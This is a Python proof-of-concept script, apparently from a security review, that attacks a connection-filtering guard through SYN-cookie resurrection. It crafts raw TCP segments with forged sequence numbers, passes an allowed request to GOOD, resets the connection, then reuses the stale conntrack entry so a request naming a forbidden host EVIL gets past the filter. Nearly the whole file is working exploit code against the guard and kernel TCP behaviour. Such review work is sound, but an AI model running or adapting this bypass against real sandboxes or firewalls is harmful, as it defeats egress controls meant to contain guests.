"""The ninth review's second attack on the first-flight guard (a guest's root in host mode,
or CAP_NET_RAW in-guest): a SYN cookie outliving the connection allowed on its four-tuple.

  1. a raw SYN, ISN X1: the server, in SYN-cookie mode, answers with cookie C1 and keeps
     nothing; it is never acknowledged;
  2. garbage on it: the guard rejects the connection (the server never sees it);
  3. a raw SYN at X2 = X1 - len(REQ1) (a new handshake: judged anew), its cookie C2 acknowledged,
     and REQ1 naming GOOD (which this guest resolved): allowed, confirmed, answered;
  4. a raw reset ends the connection: the server's socket goes, conntrack keeps the entry
     (ten seconds), allowed;
  5. REQ2 naming EVIL at X1 + 1 acknowledging C1 + 1: on the old entry, in its window by
     construction; the server checks cookie C1 and opens a connection that reads REQ2.
Prints the answer's last line, or `error ...`.

usage: cookie_resurrect_attack.py SRC DST GOOD EVIL   (as root on port 80; the caller
drops this host's own RSTs to DST unless they carry the mark 0x77)"""
import random
import socket
import struct
import sys
import time

src, dst, good, evil = sys.argv[1:5]
port = 80
SYN, ACK, PSH, RST, FIN = 0x02, 0x10, 0x08, 0x04, 0x01
MSS = struct.pack("!BBH", 2, 4, 1460)


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
raw.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 0x77)
sniff = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
sniff.settimeout(0.2)
sport = random.randint(42000, 60000)


def seg(seq, ack, flags, payload=b"", opts=b""):
    tcp = struct.pack("!HHIIBBHHH", sport, port, seq & 0xffffffff, ack & 0xffffffff, (20 + len(opts)) // 4 << 4,
                      flags, 65535, 0, 0) + opts + payload
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    return tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]


def send(p):
    try:
        raw.sendto(p, (dst, 0))
    except OSError as e:
        print("send failed", e, flush=True)


def until(pred, timeout=5):
    """The server's packets to sport until one satisfies pred (returned last), or timeout."""
    got = []
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        try:
            pkt = sniff.recv(65535)
        except socket.timeout:
            continue
        ihl = (pkt[0] & 15) * 4
        sp, dp, seq, ack, off, fl = struct.unpack("!HHIIBB", pkt[ihl:ihl + 14])
        if socket.inet_ntoa(pkt[12:16]) == dst and sp == port and dp == sport:
            got.append(dict(seq=seq, ack=ack, flags=fl, data=pkt[ihl + (off >> 4) * 4:]))
            if pred(got[-1]):
                break
    return got


def synack(isn):
    send(seg(isn, 0, SYN, opts=MSS))
    got = until(lambda p: p["flags"] & 0x12 == 0x12 and p["ack"] == (isn + 1) & 0xffffffff)
    return got[-1]["seq"] if got and got[-1]["flags"] & 0x12 == 0x12 else None


REQ1 = ("GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % good).encode()
REQ2 = ("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % evil).encode()
X1 = random.randint(1 << 20, 1 << 31)
C1 = synack(X1)  # 1
if C1 is None:
    print("error no SYN-ACK")
    sys.exit(0)
send(seg(X1 + 1, C1 + 1, ACK | PSH, b"xxxx garbage\r\n"))  # 2
got = until(lambda p: p["flags"] & RST)
if not got or not got[-1]["flags"] & RST:
    print("error the garbage was not reset")
    sys.exit(0)
X2 = X1 - len(REQ1)
C2 = synack(X2)  # 3
if C2 is None or C1 - C2 != len(REQ1):
    print("error no cookie for the second SYN", C2)
    sys.exit(0)
send(seg(X2 + 1, C2 + 1, ACK | PSH, REQ1))
got = until(lambda p: b"hello" in p["data"])
if not got or b"hello %s" % good.encode() not in got[-1]["data"]:
    print("error REQ1 not answered")
    sys.exit(0)
send(seg(X2 + 1 + len(REQ1), 0, RST))  # 4
send(seg(X1 + 1, C1 + 1, ACK | PSH, REQ2))  # 5: in order after 4, no wait
got = until(lambda p: p["flags"] & (FIN | RST) or b"hello" in p["data"])
if any(p["flags"] & RST for p in got):
    print("error reset")
    sys.exit(0)
text = b"".join(p["data"] for p in got).decode(errors="replace").strip()
print(text.splitlines()[-1] if text else "error no answer")
